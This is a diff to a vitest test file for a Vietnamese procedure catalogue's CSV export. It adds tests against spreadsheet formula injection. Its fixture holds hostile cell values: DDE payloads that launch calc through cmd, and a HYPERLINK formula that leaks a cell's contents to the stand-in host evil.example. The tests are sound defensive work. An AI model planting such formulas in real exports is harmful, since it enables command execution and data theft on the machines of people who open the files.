@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { catalogueCsv, catalogueRows, parseCsv } from '../../shared/catalogueSheet';
+import { catalogueCsv, catalogueFromCsv, catalogueRows, parseCsv } from '../../shared/catalogueSheet';
 
 const ROWS = [
   { code: 'QA01', group: 'Công an tỉnh', nameVi: 'Cấp hộ chiếu phổ thông', nameEn: 'Ordinary passport', prefix: 'QA', descriptionVi: 'Lần đầu, hoặc "cấp lại"', documents: ['Tờ khai', 'Ảnh 4×6'], documentsEn: ['Application form', 'Photo, 4×6 cm, "white background"'] },
@@ -9,7 +9,7 @@ const ROWS = [
 describe('the catalogue as CSV', () => {
   it('round-trips: commas, quotes and one document per line inside a cell', () => {
     const csv = catalogueCsv(ROWS);
-    expect(csv.startsWith('\uFEFFMã,Lĩnh vực,Tên thủ tục')).toBe(true);
+    expect(csv.startsWith('\uFEFF"Mã","Lĩnh vực","Tên thủ tục"')).toBe(true);
     expect(catalogueRows(parseCsv(csv))).toEqual({ rows: ROWS, problems: [] });
     // The English list is its own column, one document per line like the Vietnamese.
     const [head, first] = parseCsv(csv);
@@ -36,5 +36,52 @@ describe('the catalogue as CSV', () => {
   it('names the missing columns instead of guessing', () => {
     expect(catalogueRows(parseCsv('Tên thủ tục,Lĩnh vực\nHộ tịch,Tư pháp\n')).problems).toEqual(['Thiếu cột: Mã, Tiền tố']);
     expect(catalogueRows([]).problems).toEqual(['Tệp trống']);
+  });
+});
+
+describe('the catalogue CSV is no formula carrier (issue #27)', () => {
+  const HOSTILE = {
+    code: 'HT02',
+    group: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm để xem")',
+    nameEn: "=cmd|' /C calc'!A0",
+    prefix: 'B',
+    descriptionVi: "Lần đầu; =1+1, +2 | -3 và '=giữ nguyên",
+    documents: ['- Bản sao CCCD', '+84 số điện thoại', "'=đã có dấu nháy"],
+    documentsEn: ['Form; =1+1', '@ngoài giờ'],
+  };
+
+  // What a spreadsheet would split the line into, quotes respected, for a given list separator.
+  function cells(line: string, sep: string): string[] {
+    const out: string[] = [];
+    let cur = '';
+    let quoted = false;
+    for (let i = 0; i < line.length; i++) {
+      const ch = line[i] as string;
+      if (quoted) {
+        if (ch === '"' && line[i + 1] === '"') {
+          cur += '"';
+          i++;
+        } else if (ch === '"') quoted = false;
+        else cur += ch;
+      } else if (ch === '"') quoted = true;
+      else if (ch === sep) {
+        out.push(cur);
+        cur = '';
+      }
+      else cur += ch;
+    }
+    return [...out, cur];
+  }
+
+  it('exports no cell a spreadsheet would run, whatever its list separator', () => {
+    const line = catalogueCsv([HOSTILE]).split('\r\n')[1] as string;
+    for (const sep of [',', ';', '\t', '|']) {
+      for (const cell of cells(line, sep)) expect(/^\s*[=+\-@]/.test(cell), `${JSON.stringify(sep)}: ${cell}`).toBe(false);
+    }
+  });
+
+  it('imports an exported file as it was exported', () => {
+    expect(catalogueFromCsv(catalogueCsv([HOSTILE, ...ROWS]))).toEqual({ rows: [HOSTILE, ...ROWS], problems: [] });
   });
 });
